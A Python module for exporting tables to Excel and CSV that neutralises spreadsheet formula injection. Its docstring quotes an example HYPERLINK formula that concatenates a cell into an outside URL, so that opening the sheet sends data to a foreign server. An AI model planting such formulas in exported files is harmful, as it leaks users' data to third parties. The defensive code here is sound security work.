"""Excel (and CSV) export of tables: staff live in spreadsheets (BRIEF §9).

Exports carry what people typed — an agent's address, a matter's summary — so text must come
back out as text. openpyxl (and pandas through it) writes any string that starts with "=" as a
live formula: an address ``=HYPERLINK("http://…"&A1,"详情")`` would become a link that sends a
cell to someone else's server when the sheet is opened. Every workbook written here keeps text
cells as text (data type "s"); a CSV written here quotes the characters spreadsheets read as
the start of a formula (OWASP "CSV injection").
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from pathlib import Path

import pandas as pd
from openpyxl.cell.cell import TYPE_FORMULA, TYPE_STRING
from openpyxl.worksheet.worksheet import Worksheet

#: Leading characters a spreadsheet may take as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def keep_text(sheet: Worksheet) -> None:
    """Make every cell openpyxl took for a formula a text cell again (value unchanged).

    Nothing this application writes is meant as a formula, so any such cell is text a person
    typed that merely starts with "="."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == TYPE_FORMULA and isinstance(cell.value, str):
                cell.data_type = TYPE_STRING


def xlsx_bytes(sheets: Mapping[str, pd.DataFrame]) -> bytes:
    """One workbook with a sheet per table (sheet names cut to Excel's 31 characters).

    Text stays text: a value starting with "=" is not written as a formula."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            frame.to_excel(writer, sheet_name=name[:31], index=False)
        for sheet in writer.book.worksheets:
            keep_text(sheet)
    return buffer.getvalue()


def write_xlsx(sheets: Mapping[str, pd.DataFrame], path: str | Path) -> None:
    Path(path).write_bytes(xlsx_bytes(sheets))


def csv_cell(value: object) -> object:
    """A value safe to put in a CSV cell: text a spreadsheet would read as a formula gets a
    leading single quote (OWASP); anything else is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Iterable[object]]) -> bytes:
    """Rows as UTF-8 CSV with a BOM (so Excel in Chinese reads it), formula-safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(["" if v is None else csv_cell(v) for v in row])
    return buffer.getvalue().encode("utf-8-sig")
